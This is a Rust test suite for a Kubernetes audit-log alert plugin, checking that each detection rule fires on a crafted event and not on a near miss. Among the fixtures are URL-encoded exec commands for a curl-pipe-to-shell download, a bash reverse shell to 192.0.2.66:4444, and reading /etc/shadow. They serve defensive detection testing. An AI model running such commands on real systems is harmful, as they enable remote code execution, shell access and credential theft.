//! Every rule of the default pack fires on an event made for it and stays quiet on its
//! nearest miss. The test fails when a rule is added without a case here.

mod common;

use std::collections::BTreeSet;

use common::{alert_ids, event, plugin, pod_create, run_at};
use logward_alert::bundle::Bundle;
use logward_alert::Alert;
use serde_json::{json, Value};

/// Friday 2025-03-14 10:00 UTC (business hours) and Saturday 02:00 UTC (off hours).
const WORK_HOURS: u32 = 1_741_946_400;
const SATURDAY_NIGHT: u32 = 1_742_004_000;

/// Turns on everything the pack ships off or dormant, so each rule can be tested.
const CONFIG: &str = r#"{
  "enable": ["lw-falco-disallowed-user", "lw-falco-all-events", "lw-falco-full-admin-access"],
  "placeholders": {
    "known_bad_ips": ["192.0.2.0/24"],
    "pod_cidrs": ["10.244.0.0/16"],
    "allowed_images": ["registry.example.com/*"],
    "allowed_k8s_nodes": ["node-1"]
  }
}"#;

fn fires(p: &mut Alert, patch: Value, time: u32) -> Vec<String> {
    alert_ids(&run_at(p, &event(patch), time))
}

/// (rule id, matching event, nearest miss).
fn detections() -> Vec<(&'static str, Value, Value)> {
    let pod = |spec: Value| pod_create(spec);
    let container = |extra: Value| {
        let mut c = json!({"name": "c", "image": "docker.io/library/alpine:3.19"});
        common::merge(&mut c, extra);
        c
    };
    let exec = |cmd: &str| {
        json!({"verb": "create", "responseStatus": {"code": 101}, "stage": "ResponseStarted",
               "objectRef": {"resource": "pods", "subresource": "exec", "name": "web-1"},
               "requestURI": format!("/api/v1/namespaces/default/pods/web-1/exec?{cmd}&container=web&stdin=true&stdout=true&tty=true")})
    };
    let rbac = |resource: &str, verb: &str, body: Value| {
        json!({"verb": verb, "responseStatus": {"code": 201},
               "objectRef": {"resource": resource, "apiGroup": "rbac.authorization.k8s.io", "name": "x", "namespace": null},
               "requestObject": body})
    };
    let ns_delete = |name: &str, user: &str| {
        json!({"verb": "delete", "user": {"username": user}, "objectRef": {"resource": "namespaces", "name": name, "namespace": null}})
    };
    vec![
        ("lw-k8s-anonymous-allowed",
         json!({"user": {"username": "system:anonymous", "groups": ["system:unauthenticated"]}, "verb": "list"}),
         json!({"user": {"username": "system:anonymous"}, "requestURI": "/readyz?verbose", "objectRef": null})),
        ("lw-k8s-cluster-admin-binding",
         rbac("clusterrolebindings", "create", json!({"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}})),
         rbac("clusterrolebindings", "create", json!({"roleRef": {"kind": "ClusterRole", "name": "view"}}))),
        ("lw-k8s-container-as-root",
         pod(json!({"containers": [container(json!({"securityContext": {"runAsUser": 0}}))]})),
         pod(json!({"containers": [container(json!({"securityContext": {"runAsUser": 1000}}))]}))),
        ("lw-k8s-ephemeral-container",
         json!({"verb": "patch", "objectRef": {"resource": "pods", "subresource": "ephemeralcontainers"}}),
         json!({"verb": "get", "objectRef": {"resource": "pods", "subresource": "ephemeralcontainers"}})),
        ("lw-k8s-exec-credential-files", exec("command=cat&command=%2Fetc%2Fshadow"), exec("command=cat&command=%2Fetc%2Fhostname")),
        ("lw-k8s-exec-download-and-run",
         exec("command=sh&command=-c&command=curl+-fsSL+http%3A%2F%2F192.0.2.66%2Fx.sh+%7C+sh"),
         exec("command=sh&command=-c&command=curl+-fsSL+http%3A%2F%2Fexample.com%2Fhealth")),
        ("lw-k8s-exec-reverse-shell",
         exec("command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F192.0.2.66%2F4444+0%3E%261"),
         exec("command=bash&command=-c&command=echo+%2Fdev%2Fnull")),
        ("lw-k8s-hostipc-pod",
         pod(json!({"hostIPC": true, "containers": [container(json!({}))]})),
         pod(json!({"hostIPC": false, "containers": [container(json!({}))]}))),
        ("lw-k8s-hostnetwork-pod",
         pod(json!({"hostNetwork": true, "containers": [container(json!({}))]})),
         pod(json!({"hostNetwork": true, "containers": [container(json!({"image": "registry.k8s.io/prometheus-to-sd:v0.9"}))]}))),
        ("lw-k8s-hostpid-pod",
         pod(json!({"hostPID": true, "containers": [container(json!({}))]})),
         pod(json!({"containers": [container(json!({}))]}))),
        ("lw-k8s-known-bad-ip", json!({"sourceIPs": ["192.0.2.66"]}), json!({"sourceIPs": ["198.51.100.1"]})),
        ("lw-k8s-namespace-deleted", ns_delete("feature-x", "alice@example.com"), ns_delete("feature-x", "system:serviceaccount:ci:deployer")),
        ("lw-k8s-node-taint-by-human",
         json!({"verb": "patch", "objectRef": {"resource": "nodes", "name": "n1", "namespace": null},
                "requestObject": {"spec": {"taints": [{"key": "k", "effect": "NoSchedule"}]}}}),
         json!({"verb": "patch", "user": {"username": "system:serviceaccount:kube-system:node-controller"},
                "objectRef": {"resource": "nodes", "name": "n1", "namespace": null},
                "requestObject": {"spec": {"taints": [{"key": "k", "effect": "NoSchedule"}]}}})),
        ("lw-k8s-pod-created-from-pod-ip",
         {
             let mut e = pod(json!({"containers": [container(json!({}))]}));
             e["sourceIPs"] = json!(["10.244.1.52"]);
             e
         },
         pod(json!({"containers": [container(json!({}))]}))),
        ("lw-k8s-pod-exec", exec("command=ls"), json!({"verb": "get", "objectRef": {"resource": "pods", "subresource": "log"}})),
        ("lw-k8s-port-forward",
         json!({"verb": "create", "objectRef": {"resource": "pods", "subresource": "portforward"}}),
         json!({"verb": "create", "objectRef": {"resource": "pods", "subresource": "proxy"}})),
        ("lw-k8s-privileged-pod",
         pod(json!({"initContainers": [container(json!({"securityContext": {"privileged": true}}))], "containers": [container(json!({}))]})),
         pod(json!({"containers": [container(json!({"securityContext": {"privileged": false}}))]}))),
        ("lw-k8s-production-namespace-deleted",
         ns_delete("payments-prod", "system:serviceaccount:ci:deployer"),
         ns_delete("payments-staging", "system:serviceaccount:ci:deployer")),
        ("lw-k8s-secret-read-by-human",
         json!({"verb": "list", "objectRef": {"resource": "secrets"}}),
         json!({"verb": "list", "user": {"username": "system:node:n1"}, "objectRef": {"resource": "secrets"}})),
        ("lw-k8s-secret-read-by-service-account",
         json!({"verb": "get", "user": {"username": "system:serviceaccount:web:default"}, "objectRef": {"resource": "secrets", "name": "db"}}),
         json!({"verb": "get", "user": {"username": "system:serviceaccount:kube-system:token-cleaner"}, "objectRef": {"resource": "secrets", "name": "db"}})),
        ("lw-k8s-sensitive-hostpath",
         pod(json!({"containers": [container(json!({}))], "volumes": [{"name": "s", "hostPath": {"path": "/var/run/docker.sock"}}]})),
         pod(json!({"containers": [container(json!({}))], "volumes": [{"name": "t", "hostPath": {"path": "/etc/localtime"}}]}))),
        ("lw-k8s-wildcard-role",
         rbac("clusterroles", "create", json!({"rules": [{"apiGroups": [""], "resources": ["pods"], "verbs": ["*"]}]})),
         rbac("clusterroles", "create", json!({"rules": [{"apiGroups": [""], "resources": ["pods"], "verbs": ["get"]}]}))),
        ("lw-falco-disallowed-user",
         json!({"user": {"username": "eve@example.com"}}),
         json!({"user": {"username": "kubernetes-admin"}})),
        ("lw-falco-disallowed-pod",
         pod(json!({"containers": [container(json!({}))]})),
         pod(json!({"containers": [container(json!({"image": "registry.example.com/web:1.0"}))]}))),
        ("lw-falco-nodeport-service",
         json!({"verb": "create", "objectRef": {"resource": "services"}, "requestObject": {"spec": {"type": "NodePort"}}}),
         json!({"verb": "create", "objectRef": {"resource": "services"}, "requestObject": {"spec": {"type": "ClusterIP"}}})),
        ("lw-falco-configmap-credentials",
         json!({"verb": "create", "objectRef": {"resource": "configmaps"}, "requestObject": {"data": {"DB_PASSWORD": "x"}}}),
         json!({"verb": "create", "objectRef": {"resource": "configmaps"}, "requestObject": {"data": {"LOG_LEVEL": "info"}}})),
        ("lw-falco-disallowed-namespace",
         json!({"verb": "create", "objectRef": {"resource": "namespaces", "name": "crypto", "namespace": null}}),
         json!({"verb": "create", "objectRef": {"resource": "namespaces", "name": "default", "namespace": null}})),
        ("lw-falco-pod-in-kube-namespace",
         {
             let mut e = pod(json!({"containers": [container(json!({}))]}));
             e["objectRef"]["namespace"] = json!("kube-system");
             e
         },
         {
             let mut e = pod(json!({"containers": [container(json!({"image": "registry.k8s.io/metrics-server-amd64:v0.3.6"}))]}));
             e["objectRef"]["namespace"] = json!("kube-system");
             e
         }),
        ("lw-falco-serviceaccount-in-kube-namespace",
         json!({"verb": "create", "responseStatus": {"code": 201}, "objectRef": {"resource": "serviceaccounts", "namespace": "kube-system", "name": "helper"}}),
         json!({"verb": "create", "responseStatus": {"code": 201}, "objectRef": {"resource": "serviceaccounts", "namespace": "kube-system", "name": "coredns"}})),
        ("lw-falco-system-role-modified",
         rbac("clusterroles", "patch", json!({"rules": []})).pipe(|mut e| { e["objectRef"]["name"] = json!("system:node"); e }),
         rbac("clusterroles", "patch", json!({"rules": []})).pipe(|mut e| { e["objectRef"]["name"] = json!("system:coredns"); e })),
        ("lw-falco-role-write-privileges",
         rbac("roles", "create", json!({"rules": [{"resources": ["configmaps"], "verbs": ["get", "update"]}]})),
         rbac("roles", "create", json!({"rules": [{"resources": ["configmaps"], "verbs": ["get", "list"]}]}))),
        ("lw-falco-role-pod-exec",
         rbac("roles", "create", json!({"rules": [{"resources": ["pods/exec"], "verbs": ["create"]}]})),
         rbac("roles", "create", json!({"rules": [{"resources": ["pods/log"], "verbs": ["get"]}]}))),
        ("lw-falco-all-events", json!({}), json!({"stage": "ResponseStarted"})),
        ("lw-falco-full-admin-access", json!({"user": {"username": "kubernetes-admin"}}), json!({})),
        ("lw-falco-ingress-without-tls",
         json!({"verb": "create", "responseStatus": {"code": 201}, "objectRef": {"resource": "ingresses"}, "requestObject": {"spec": {"rules": []}}}),
         json!({"verb": "create", "responseStatus": {"code": 201}, "objectRef": {"resource": "ingresses"}, "requestObject": {"spec": {"tls": [{"secretName": "t"}]}}})),
        ("lw-falco-untrusted-node-joined",
         json!({"verb": "create", "responseStatus": {"code": 201}, "objectRef": {"resource": "nodes", "name": "rogue", "namespace": null}}),
         json!({"verb": "create", "responseStatus": {"code": 201}, "objectRef": {"resource": "nodes", "name": "node-1", "namespace": null}})),
        ("lw-falco-untrusted-node-join-failed",
         json!({"verb": "create", "responseStatus": {"code": 403}, "objectRef": {"resource": "nodes", "name": "rogue", "namespace": null}}),
         json!({"verb": "create", "responseStatus": {"code": 201}, "objectRef": {"resource": "nodes", "name": "rogue", "namespace": null}})),
        ("lw-falco-secret-get-failed",
         json!({"verb": "get", "responseStatus": {"code": 403}, "objectRef": {"resource": "secrets"}}),
         json!({"verb": "get", "responseStatus": {"code": 200}, "objectRef": {"resource": "secrets"}})),
    ]
}

trait Pipe: Sized {
    fn pipe(self, f: impl FnOnce(Self) -> Self) -> Self {
        f(self)
    }
}
impl Pipe for Value {}

/// Falco's activity rules: (rule id, verb, resource).
const ACTIVITY: &[(&str, &str, &str)] = &[
    ("lw-falco-deployment-created", "create", "deployments"),
    ("lw-falco-deployment-deleted", "delete", "deployments"),
    ("lw-falco-service-created", "create", "services"),
    ("lw-falco-service-deleted", "delete", "services"),
    ("lw-falco-configmap-created", "create", "configmaps"),
    ("lw-falco-configmap-deleted", "delete", "configmaps"),
    ("lw-falco-namespace-created", "create", "namespaces"),
    ("lw-falco-serviceaccount-created", "create", "serviceaccounts"),
    ("lw-falco-serviceaccount-deleted", "delete", "serviceaccounts"),
    ("lw-falco-role-created", "create", "roles"),
    ("lw-falco-role-deleted", "delete", "roles"),
    ("lw-falco-clusterrole-created", "create", "clusterroles"),
    ("lw-falco-clusterrole-deleted", "delete", "clusterroles"),
    ("lw-falco-rolebinding-created", "create", "rolebindings"),
    ("lw-falco-rolebinding-deleted", "delete", "rolebindings"),
    ("lw-falco-clusterrolebinding-created", "create", "clusterrolebindings"),
    ("lw-falco-clusterrolebinding-deleted", "delete", "clusterrolebindings"),
    ("lw-falco-secret-created", "create", "secrets"),
    ("lw-falco-secret-deleted", "delete", "secrets"),
];

#[test]
fn each_detection_fires_on_its_event_and_not_on_its_near_miss() {
    for (id, hit, miss) in detections() {
        // A fresh instance per rule: no correlation state leaks between cases.
        let mut p = plugin(Some(CONFIG));
        let got = fires(&mut p, hit.clone(), WORK_HOURS);
        assert!(got.iter().any(|g| g == id), "{id} did not fire on {hit}: {got:?}");
        let got = fires(&mut p, miss.clone(), WORK_HOURS);
        assert!(!got.iter().any(|g| g == id), "{id} fired on its near miss {miss}");
    }
    for &(id, verb, resource) in ACTIVITY {
        let mut p = plugin(Some(CONFIG));
        let hit = json!({"verb": verb, "objectRef": {"resource": resource, "name": "x"}});
        assert!(fires(&mut p, hit, WORK_HOURS).iter().any(|g| g == id), "{id}");
        let failed = json!({"verb": verb, "responseStatus": {"code": 403}, "objectRef": {"resource": resource, "name": "x"}});
        assert!(!fires(&mut p, failed, WORK_HOURS).iter().any(|g| g == id), "{id} fired on a refused request");
    }
}

#[test]
fn off_hours_rule_follows_the_record_time() {
    let mut p = plugin(None);
    let read = json!({"verb": "get", "objectRef": {"resource": "secrets", "name": "db"}});
    assert!(fires(&mut p, read.clone(), SATURDAY_NIGHT).contains(&"lw-k8s-sensitive-operation-off-hours".to_string()));
    assert!(!fires(&mut p, read.clone(), WORK_HOURS).contains(&"lw-k8s-sensitive-operation-off-hours".to_string()));
    // Business hours are configurable: Friday 10:00 UTC is 19:00 in Tokyo.
    let mut tokyo = plugin(Some(r#"{"business_hours": {"start": "09:00", "end": "18:00", "utc_offset": "+09:00"}}"#));
    assert!(fires(&mut tokyo, read, WORK_HOURS).contains(&"lw-k8s-sensitive-operation-off-hours".to_string()));
}

/// Runs `patches` at the given times; returns the index of each record that raised `id`.
fn raised(p: &mut Alert, id: &str, events: &[(Value, u32)]) -> Vec<usize> {
    events
        .iter()
        .enumerate()
        .filter(|(_, (patch, t))| fires(p, patch.clone(), *t).iter().any(|g| g == id))
        .map(|(i, _)| i)
        .collect()
}

#[test]
fn correlations_fire_at_their_threshold() {
    let t = WORK_HOURS;
    // Five 401s from one address within a minute; the sixth within the same window is quiet.
    let unauthorized = json!({"user": null, "stage": "ResponseStarted", "annotations": null, "objectRef": null,
                              "sourceIPs": ["198.51.100.7"], "responseStatus": {"code": 401}});
    let mut p = plugin(None);
    let events: Vec<(Value, u32)> = (0..6).map(|i| (unauthorized.clone(), t + i * 5)).collect();
    assert_eq!(raised(&mut p, "lw-k8s-auth-failure-burst", &events), vec![4]);
    // Spread over two minutes: never five in one minute.
    let mut p = plugin(None);
    let events: Vec<(Value, u32)> = (0..6).map(|i| (unauthorized.clone(), t + i * 20)).collect();
    assert!(raised(&mut p, "lw-k8s-auth-failure-burst", &events).is_empty());

    let forbidden = json!({"verb": "list", "objectRef": {"resource": "secrets"}, "responseStatus": {"code": 403}});
    let mut p = plugin(None);
    let events: Vec<(Value, u32)> = (0..5).map(|i| (forbidden.clone(), t + i)).collect();
    assert_eq!(raised(&mut p, "lw-k8s-forbidden-burst", &events), vec![4]);
    // Another user from the same address is another group.
    let mut p = plugin(None);
    let mut events: Vec<(Value, u32)> = (0..4).map(|i| (forbidden.clone(), t + i)).collect();
    let mut other = forbidden.clone();
    other["user"] = json!({"username": "bob@example.com"});
    events.push((other, t + 5));
    assert!(raised(&mut p, "lw-k8s-forbidden-burst", &events).is_empty());

    let delete = |n: u32| json!({"verb": "delete", "objectRef": {"resource": "configmaps", "name": format!("cm-{n}")}});
    let mut p = plugin(None);
    let events: Vec<(Value, u32)> = (0..12).map(|i| (delete(i), t + i * 20)).collect();
    assert_eq!(raised(&mut p, "lw-k8s-bulk-deletion", &events), vec![9]);
    // Kubernetes' garbage collector deletes without counting.
    let mut p = plugin(None);
    let events: Vec<(Value, u32)> = (0..12)
        .map(|i| {
            let mut e = delete(i);
            e["user"] = json!({"username": "system:serviceaccount:kube-system:generic-garbage-collector"});
            (e, t + i)
        })
        .collect();
    assert!(raised(&mut p, "lw-k8s-bulk-deletion", &events).is_empty());

    let secret = |name: &str| json!({"verb": "get", "objectRef": {"resource": "secrets", "name": name}});
    let mut p = plugin(None);
    let events = vec![(secret("a"), t), (secret("a"), t + 10), (secret("b"), t + 20), (secret("c"), t + 30), (secret("d"), t + 40)];
    assert_eq!(raised(&mut p, "lw-k8s-many-distinct-secrets", &events), vec![3]);
    // Kubelets fetching their pods' secrets do not count.
    let mut p = plugin(None);
    let events: Vec<(Value, u32)> = ["a", "b", "c", "d"]
        .iter()
        .map(|n| {
            let mut e = secret(n);
            e["user"] = json!({"username": "system:node:n1"});
            (e, t)
        })
        .collect();
    assert!(raised(&mut p, "lw-k8s-many-distinct-secrets", &events).is_empty());
}

#[test]
fn every_rule_of_the_pack_has_a_case() {
    let pack: Bundle = serde_json::from_str(logward_alert::DEFAULT_RULES).unwrap();
    let mut covered: BTreeSet<String> = detections().iter().map(|(id, _, _)| id.to_string()).collect();
    covered.extend(ACTIVITY.iter().map(|(id, _, _)| id.to_string()));
    // Correlations and their feeder rules are covered by `correlations_fire_at_their_threshold`,
    // the off-hours rule by `off_hours_rule_follows_the_record_time`.
    for id in [
        "lw-k8s-auth-failure", "lw-k8s-auth-failure-burst", "lw-k8s-forbidden", "lw-k8s-forbidden-burst",
        "lw-k8s-delete", "lw-k8s-bulk-deletion", "lw-k8s-secret-get", "lw-k8s-many-distinct-secrets",
        "lw-k8s-sensitive-operation-off-hours",
    ] {
        covered.insert(id.to_string());
    }
    let ids: BTreeSet<String> = pack.rules.iter().map(|r| r.id.clone()).collect();
    let missing: Vec<&String> = ids.difference(&covered).collect();
    let unknown: Vec<&String> = covered.difference(&ids).collect();
    assert!(missing.is_empty() && unknown.is_empty(), "rules without a case: {missing:?}; cases without a rule: {unknown:?}");
}

#[test]
fn non_matching_records_stay_byte_identical() {
    let mut p = plugin(None);
    for rec in [
        event(json!({"verb": "update", "objectRef": {"resource": "leases", "namespace": "kube-node-lease"}})),
        // Oddly formatted but valid JSON, and non-ASCII escapes as Fluent Bit writes them.
        "{ \"verb\" : \"get\" ,\n \"objectRef\": {\"resource\": \"pods\"}, \"msg\": \"caf\\u00e9\" }".to_string(),
        "not json at all".to_string(),
        "{\"verb\":\"get\",\"objectRef\":".to_string(),
    ] {
        assert_eq!(run_at(&mut p, &rec, WORK_HOURS), rec);
    }
}

#[test]
fn output_shape_and_highest_level() {
    let mut p = plugin(None);
    let out = run_at(&mut p, &event(json!({"verb": "delete", "objectRef": {"resource": "namespaces", "name": "production", "namespace": null}})), WORK_HOURS);
    let v: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["alert_level"], "critical");
    let alerts = v["alert"].as_array().unwrap();
    let prod = alerts.iter().find(|a| a["id"] == "lw-k8s-production-namespace-deleted").unwrap();
    assert_eq!(prod["level"], "critical");
    assert_eq!(prod["title"], "Production namespace deleted");
    assert_eq!(prod["tags"], json!(["attack.impact", "attack.t1485"]));
    assert_eq!(prod.as_object().unwrap().len(), 4, "exactly id, title, level, tags");
    // The record itself is untouched before the appended fields.
    let original = event(json!({"verb": "delete", "objectRef": {"resource": "namespaces", "name": "production", "namespace": null}}));
    assert!(out.starts_with(&original[..original.len() - 1]));
}

#[test]
fn correlation_state_is_bounded_and_evictions_are_counted() {
    let mut p = plugin(Some(r#"{"state": {"max_groups": 3}}"#));
    let unauthorized = |ip: String| {
        json!({"user": null, "stage": "ResponseStarted", "annotations": null, "objectRef": null,
               "sourceIPs": [ip], "responseStatus": {"code": 401}})
    };
    for i in 0..50 {
        fires(&mut p, unauthorized(format!("198.51.100.{i}")), WORK_HOURS + i);
    }
    let stats = p.engine().window_stats();
    let (_, groups, evicted) = stats.iter().find(|(id, _, _)| *id == "lw-k8s-auth-failure-burst").copied().unwrap();
    assert_eq!((groups, evicted), (3, 47));
    // The most recent groups are kept: a burst from one of them still fires.
    let burst: Vec<(Value, u32)> = (0..4).map(|k| (unauthorized("198.51.100.49".into()), WORK_HOURS + 50 + k)).collect();
    assert_eq!(raised(&mut p, "lw-k8s-auth-failure-burst", &burst), vec![3]);
    assert!(plugin_err(r#"{"state": {"max_groups": 0}}"#).contains("max_groups"));
}

fn plugin_err(config: &str) -> String {
    use logward_sdk::{ConfigSource, Plugin};
    match Alert::init(Some(&ConfigSource::new("alert.json", config))) {
        Ok(_) => panic!("accepted {config}"),
        Err(e) => e.to_string(),
    }
}

#[test]
fn settings_errors_point_into_alert_json() {
    let e = plugin_err("{\n  \"business_hours\": {\"utc_offset\": \"CET\"}\n}");
    assert!(e.starts_with("alert.json:2:") && e.contains("UTC offset"), "{e}");
    let e = plugin_err("{\"enable\": [\"lw-k8s-nope\"]}");
    assert!(e.contains("no rule has id `lw-k8s-nope`"), "{e}");
    let e = plugin_err(r#"{"rules": [{"id": "x", "title": "t", "condition": {"field": "a", "regex": "("}}]}"#);
    assert!(e.contains("regex does not compile"), "{e}");
    let e = plugin_err(r#"{"rules": [{"id": "x", "title": "t", "condition": {"placeholder": "nope", "field": "a", "op": "glob"}}]}"#);
    assert!(e.contains("placeholder `nope`"), "{e}");
    let e = plugin_err(r#"{"output": {"level_key": "a..b"}}"#);
    assert!(e.contains("empty part"), "{e}");
    let e = plugin_err(r#"{"rules": [{"id": "c", "title": "t", "correlation": {"type": "event_count", "rules": ["missing"], "timespan": 60, "gte": 2}}]}"#);
    assert!(e.contains("no rule has id `missing`"), "{e}");
}

#[test]
fn user_rules_extend_or_replace_the_pack() {
    let custom = r#"{"rules": [{"id": "my-rule", "title": "Mine", "level": "low", "condition": {"field": "verb", "equals": "watch"}},
                               {"id": "lw-k8s-pod-exec", "title": "Exec (ours)", "level": "critical",
                                "condition": {"field": "objectRef.subresource", "equals": "exec"}}],
                     "disable": ["lw-k8s-port-forward"]}"#;
    let mut p = plugin(Some(custom));
    assert!(fires(&mut p, json!({"verb": "watch"}), WORK_HOURS).contains(&"my-rule".to_string()));
    let out = run_at(&mut p, &event(json!({"verb": "create", "objectRef": {"resource": "pods", "subresource": "exec"}})), WORK_HOURS);
    assert!(out.contains(r#""title":"Exec (ours)""#) && out.contains(r#""alert_level":"critical""#), "{out}");
    assert!(!fires(&mut p, json!({"objectRef": {"resource": "pods", "subresource": "portforward"}}), WORK_HOURS).contains(&"lw-k8s-port-forward".to_string()));
    // Without the pack, only the file's rules run.
    let mut alone = plugin(Some(r#"{"include_default": false, "rules": [{"id": "r", "title": "t", "condition": {"field": "verb", "equals": "get"}}]}"#));
    assert_eq!(fires(&mut alone, json!({"verb": "get", "objectRef": {"resource": "secrets"}}), WORK_HOURS), vec!["r".to_string()]);
}

#[test]
fn output_keys_and_min_level_are_configurable() {
    let mut p = plugin(Some(r#"{"output": {"key": "security.alerts", "level_key": "security.level", "min_level": "high"}}"#));
    let out = run_at(&mut p, &event(json!({"verb": "delete", "objectRef": {"resource": "namespaces", "name": "production", "namespace": null}})), WORK_HOURS);
    let v: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["security"]["level"], "critical");
    assert!(v["security"]["alerts"].as_array().unwrap().iter().all(|a| a["level"] == "high" || a["level"] == "critical"));
    // Below min_level: nothing written at all.
    let quiet = event(json!({"verb": "create", "objectRef": {"resource": "deployments"}}));
    assert_eq!(run_at(&mut p, &quiet, WORK_HOURS), quiet);
}
